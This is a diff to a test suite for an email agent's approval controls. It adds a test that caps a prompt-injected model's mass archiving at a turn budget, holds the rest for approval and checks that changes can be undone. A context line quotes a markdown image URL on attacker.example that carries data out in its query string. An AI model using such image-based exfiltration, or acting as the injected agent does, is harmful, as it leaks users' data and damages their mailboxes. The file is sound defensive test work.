@@ -577,6 +577,25 @@ def test_class1_agent_output_quoting_a_remote_image_reaches_the_browser_only_as_
     assert "![x](https://attacker.example/p.png?d=493021)" in turn["reply"] and turn["pending_actions"] == []
 
 
+def test_variant_a_flood_of_archives_stops_at_the_turn_budget_and_every_change_can_be_undone(aw: ApprovalWorld) -> None:
+    """The issue's injected model archived 158 messages in one go: now 20 run (each undoable), the rest of the turn
+    waits as one batch card."""
+    ids = [aw.deliver("News <news@northwind.example>", f"Digest {n}") for n in range(25)]
+    turn = aw.attack([[("remove_label", {"message_ids": [i], "label": "INBOX"}) for i in ids]])
+    [batch] = turn["pending_actions"]
+    assert batch["tool"] == "batch" and len(turn["changes"]) == 20
+    assert batch["snapshot"]["card"]["title"] == "5 more changes (5 items) held together"
+    inbox = {m.id for m in aw.w.mailbox.search("in:inbox", limit=500).messages}
+    assert len(set(ids) - inbox) == 20
+    aw.approve(batch, "archive flood batch")
+    assert not set(ids) & {m.id for m in aw.w.mailbox.search("in:inbox", limit=500).messages}
+    for change in [*turn["changes"]]:
+        r = aw.w.api.post(f"/api/v1/agent/changes/{change['id']}/undo", headers=aw.w.account.headers)
+        assert r.status_code == 200, r.text
+    back = {m.id for m in aw.w.mailbox.search("in:inbox", limit=500).messages}
+    assert len(set(ids) & back) == 20  # the 20 the agent archived on its own are back; the 5 approved stay archived
+
+
 def test_every_action_the_compromised_model_got_held_sends_exactly_its_card_when_approved(world: World) -> None:
     """The corpus run left every attempted external action pending: approve them all (as a careless person would)
     and compare what happened with each card."""
